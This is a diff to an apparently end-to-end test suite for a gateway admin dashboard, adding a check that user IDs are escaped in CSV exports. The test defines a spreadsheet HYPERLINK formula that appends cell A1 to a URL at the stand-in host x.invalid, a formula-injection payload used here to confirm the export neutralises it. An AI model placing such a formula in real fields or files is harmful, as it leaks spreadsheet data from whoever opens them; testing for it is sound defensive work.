@@ -12,6 +12,7 @@ import { type FakeProvider, startFakeProvider } from '../support/fake-providers/
 import { chatStatus, startTestGateway, type TestGateway } from '../support/gateway.js';
 import { CLIENT_KEY, PROVIDER_KEY } from '../support/setup.js';
 
+const FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"ok")';
 const ARTIFACTS = join(import.meta.dirname, '../../test-artifacts/dashboard');
 const NEW_PROVIDER_KEY = 'sk-dashboard-rotated-key-0123456789abcdef';
 const PAGES = ['overview', 'keys', 'tokens', 'sessions', 'usage', 'audit', 'alerts'] as const;
@@ -72,6 +73,12 @@ describe.skipIf(!hasChromium())(
       });
       await exchanged.body.dump();
       expect(exchanged.statusCode).toBe(200);
+      // A user id a spreadsheet would run as a formula, as a back end signing users in may name one.
+      const formula = await adminCall(kw.adminUrl, 'POST', '/admin/tokens', {
+        name: 'sheet',
+        userId: FORMULA,
+      });
+      expect(await chatStatus(kw, formula.json.token)).toBe(200);
     });
     afterAll(async () => {
       await browser?.close();
@@ -252,6 +259,15 @@ describe.skipIf(!hasChromium())(
         'group,requests,inputTokens,outputTokens,cachedTokens,costMicros,costUsd',
       );
       expect(csv).toMatch(/\n\d{4}-\d{2}-\d{2},\d+,/);
+
+      await page.getByLabel('Group by').selectOption('user');
+      await page.getByRole('cell', { name: FORMULA }).waitFor();
+      const [byUser] = await Promise.all([
+        page.waitForEvent('download'),
+        page.getByRole('button', { name: 'Export CSV' }).click(),
+      ]);
+      const users = readFileSync((await byUser.path())!, 'utf8');
+      expect(users).toContain(`\n"'${FORMULA.replaceAll('"', '""')}",1,`);
       await page.context().close();
       expect(problems).toEqual([]);
     });
